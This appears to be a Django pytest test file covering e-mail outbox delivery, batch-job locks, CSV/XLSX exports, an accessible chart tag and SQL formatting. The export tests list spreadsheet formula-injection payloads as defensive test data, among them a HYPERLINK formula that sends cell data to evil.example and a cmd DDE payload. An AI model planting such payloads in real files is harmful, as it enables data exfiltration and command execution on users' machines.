"""Shared mechanics: e-mail outbox, batch-job lock, exports, charts."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from django.core import mail
from django.template import Context, Template
from django.utils import timezone

from core import batch
from core.email import correo_enviar
from core.export import tabla_respuesta
from core.models import Correo, TrabajoLote
from core.tasks import correos_pendientes_reenviar

pytestmark = pytest.mark.django_db


def test_email_is_stored_then_sent_after_commit(django_capture_on_commit_callbacks) -> None:  # type: ignore[no-untyped-def]
    with django_capture_on_commit_callbacks(execute=True):
        correo = correo_enviar(
            para=["ana@correo.test"],
            asunto="Prueba",
            plantilla="prueba",
            contexto={"nombre": "Ana"},
        )
        assert correo is not None and not mail.outbox
    assert len(mail.outbox) == 1
    assert "Estimado/a Ana" in mail.outbox[0].body and "no responda" in mail.outbox[0].body
    correo.refresh_from_db()
    assert correo.estado == Correo.Estado.ENVIADO


def test_email_rolled_back_with_its_transaction_is_never_sent(
    django_capture_on_commit_callbacks,
) -> None:  # type: ignore[no-untyped-def]
    from django.db import transaction

    with (
        django_capture_on_commit_callbacks(execute=True),
        pytest.raises(RuntimeError),
        transaction.atomic(),
    ):
        correo_enviar(para=["ana@correo.test"], asunto="Prueba", plantilla="prueba")
        raise RuntimeError
    assert not mail.outbox and not Correo.objects.exists()


def test_email_queued_while_broker_down_is_sent_by_the_sweep(
    django_capture_on_commit_callbacks, request
) -> None:  # type: ignore[no-untyped-def]
    from tests.conftest import reconfigure_celery

    request.getfixturevalue("dead_broker")
    with django_capture_on_commit_callbacks(execute=True):
        correo = correo_enviar(para=["ana@correo.test"], asunto="Prueba", plantilla="prueba")
    assert correo is not None and not mail.outbox
    reconfigure_celery(task_always_eager=True)  # the broker is back (in-process here)
    Correo.objects.filter(pk=correo.pk).update(creado_en=timezone.now() - dt.timedelta(minutes=10))
    assert correos_pendientes_reenviar() == 1
    assert len(mail.outbox) == 1
    assert correos_pendientes_reenviar() == 0


def test_only_one_run_of_a_batch_job_at_a_time() -> None:
    with batch.lote("generar_prueba") as lote:
        lote.set_total(3)
        with pytest.raises(batch.LoteEnCurso, match="en curso"), batch.lote("generar_prueba"):
            pass
        lote.advance(3)
        lote.count("creados", 3)
    fila = TrabajoLote.objects.get(nombre="generar_prueba")
    assert fila.estado == TrabajoLote.Estado.TERMINADO and fila.procesados == 3
    assert fila.resumen == {"creados": 3}
    with batch.lote("generar_prueba"):  # the lock is free again
        pass


def test_a_crashed_run_is_recorded_and_a_stale_one_is_taken_over() -> None:
    with pytest.raises(ValueError), batch.lote("con_error"):
        raise ValueError("dato malo")
    assert TrabajoLote.objects.get(nombre="con_error").error == "ValueError: dato malo"
    colgado = TrabajoLote.objects.create(
        nombre="colgado", latido_en=timezone.now() - dt.timedelta(hours=2)
    )
    with batch.lote("colgado"):
        pass
    colgado.refresh_from_db()
    assert colgado.estado == TrabajoLote.Estado.FALLIDO and "Abandonado" in colgado.error


def test_csv_export_neutralises_formulas_and_keeps_accents() -> None:
    response = tabla_respuesta(
        nombre="mora", encabezados=["Razón social", "Total"], filas=[["=HYPERLINK()", 5]]
    )
    body = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[union-attr]
    assert body.startswith("\ufeffRazón social,Total")
    assert "'=HYPERLINK()" in body
    assert response["Content-Disposition"] == 'attachment; filename="mora.csv"'


@pytest.mark.parametrize(
    "razon_social",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Pagar aquí")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ],
)
def test_xlsx_export_keeps_formula_like_text_as_text(razon_social: str) -> None:
    """A razón social that looks like a formula arrives as the text typed: a string
    cell with the quote prefix, never a formula (openpyxl would store "=..." as one)."""
    import io
    import zipfile

    from openpyxl import load_workbook

    response = tabla_respuesta(
        nombre="mora",
        encabezados=["Razón social", "Saldo"],
        filas=[[razon_social, Decimal("-12.50")], ["Comercial Andina S.A.", 3]],
        formato="xlsx",
    )
    hoja = load_workbook(io.BytesIO(response.content)).active
    celda = hoja["A2"]
    assert celda.value == razon_social and celda.data_type == "s" and celda.quotePrefix
    assert hoja["B2"].data_type == "n" and hoja["B2"].value == -12.5  # numbers stay numbers
    assert hoja["A3"].value == "Comercial Andina S.A." and not hoja["A3"].quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml


def test_xlsx_export_opens() -> None:
    import io

    from openpyxl import load_workbook

    response = tabla_respuesta(nombre="mora", encabezados=["A"], filas=[[1], [2]], formato="xlsx")
    libro = load_workbook(io.BytesIO(response.content))
    assert [c.value for c in libro.active["A"]] == ["A", 1, 2]


def test_bar_chart_is_an_accessible_svg_with_its_data_table() -> None:
    html = Template(
        "{% load charts %}{% bar_chart series title='Atenciones' legend='Quejas|Atenciones' %}"
    ).render(Context({"series": [("2025-01", 2, 93), ("2025-02", 3, 70)]}))
    assert 'role="img"' in html and "<title>Atenciones</title>" in html
    assert (
        html.count('class="bar"') == 3 and html.count('class="bar-alt"') == 3
    )  # 2 bars + legend each
    assert '<th scope="row">2025-02</th>' in html
    empty = Template("{% load charts %}{% bar_chart series title='x' %}").render(
        Context({"series": []})
    )
    assert "No hay datos" in empty


@pytest.mark.django_db
def test_bulk_email_fields_are_formatted_in_sql_as_the_pages_format_them() -> None:
    """E-mails the database writes (core.email.correos_encolar_sql) format amounts,
    counts, numbers and dates in SQL: the same text as core.formato and the templates'
    filters, on this database."""
    from decimal import Decimal

    from django.db import connection

    from core.email import sql_ceros, sql_cifra, sql_dolares, sql_fecha, sql_lista, sql_mes
    from core.formato import cifra, dolares

    montos = ["0", "0.01", "0.5", "999.99", "1000", "1234.56", "-1234567.89", "73239337.39"]
    with connection.cursor() as cursor:
        for monto in montos:
            cursor.execute(
                f"SELECT {sql_dolares('m')}, {sql_cifra('n')} FROM (SELECT CAST(%s AS "  # noqa: S608
                "DECIMAL(14, 2)) AS m, CAST(%s AS INTEGER) AS n) t",
                [monto, int(Decimal(monto))],
            )
            assert cursor.fetchone() == (dolares(Decimal(monto)), cifra(int(Decimal(monto))))
        cursor.execute(
            f"SELECT {sql_ceros('n', 8)}, {sql_fecha('d')}, {sql_mes('d')} "  # noqa: S608
            "FROM (SELECT 12 AS n, %s AS d) t",
            [connection.ops.adapt_datefield_value(dt.date(2026, 1, 5))],
        )
        assert cursor.fetchone() == ("00000012", "05/01/2026", "01/2026")
        cursor.execute(
            f"SELECT {sql_lista('x', orden='x')} FROM (SELECT 'b' AS x UNION ALL "  # noqa: S608
            "SELECT 'a' AS x) t WHERE 1 = %s",
            [1],
        )
        assert sorted(cursor.fetchone()[0].split("\n")) == ["a", "b"]
